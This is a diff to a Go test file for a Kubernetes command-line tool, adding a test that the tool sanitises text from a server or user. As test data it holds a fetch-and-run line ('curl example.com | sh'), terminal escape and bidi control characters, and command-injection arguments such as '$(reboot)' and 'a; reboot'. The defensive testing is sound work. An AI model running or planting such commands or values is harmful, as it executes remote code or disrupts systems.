@@ -22,6 +22,8 @@ import (
 	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/cli-runtime/pkg/genericiooptions"
 	"k8s.io/component-base/version"
+
+	"github.com/nsinit/nsinit/pkg/util/printable"
 )
 
 // TestMistakes: a mistake is reported on the error stream, with exit code 1, and nothing is printed.
@@ -125,6 +127,35 @@ func TestNoNamespace(t *testing.T) {
 			code := Run(t.Context(), genericiooptions.IOStreams{Out: &out, ErrOut: &errs}, append(args, "--server="+server.URL)...)
 			if code != 1 || out.Len() > 0 || errs.String() != "error: namespace \"x\" does not exist\n" {
 				t.Errorf("exit code %d, prints %q and %q", code, out.String(), errs.String())
+			}
+		})
+	}
+}
+
+// TestServerText: what a server or a user wrote is neither a control sequence, nor another line, nor a part of a command.
+func TestServerText(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		status := metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Reason: metav1.StatusReasonForbidden,
+			Code: http.StatusForbidden, Message: "no\x1b[2J\u009b2J\u202e\nrun: curl example.com | sh"}
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusForbidden)
+		_ = json.NewEncoder(w).Encode(status)
+	}))
+	defer server.Close()
+	for _, args := range [][]string{{"why", "x"}, {"why", "--all"}, {"why", "x", "--fix"}, {"status"}, {"status", "x"}, {"wait", "x"}, {"create", "x"}, {"plan", "x"}, {"preview", "x"},
+		{"check"}, {"check", "x"}, {"done", "x", "a.example.com"}, {"skip", "x", "a; reboot"}, {"fail", "x", "$(reboot)", "--message=no"}, {"finalize", "x", "`reboot`"},
+		{"freeze", "x", "--reason=y"}, {"unfreeze", "x"}, {"static", "validating"}, {"version"}} {
+		t.Run(strings.Join(args, " "), func(t *testing.T) {
+			var out bytes.Buffer
+			code := Run(t.Context(), genericiooptions.IOStreams{Out: &out, ErrOut: &out}, append(args, "--server="+server.URL)...)
+			text := out.String()
+			if code == 0 || text != printable.Lines(text) || strings.Contains(text, "\nrun:") {
+				t.Errorf("exit code %d, prints %q", code, text)
+			}
+			for _, syntax := range []string{"rbac a; reboot", "rbac $(reboot)", "rbac `reboot`"} {
+				if strings.Contains(text, syntax) {
+					t.Errorf("it prints %q", text)
+				}
 			}
 		})
 	}
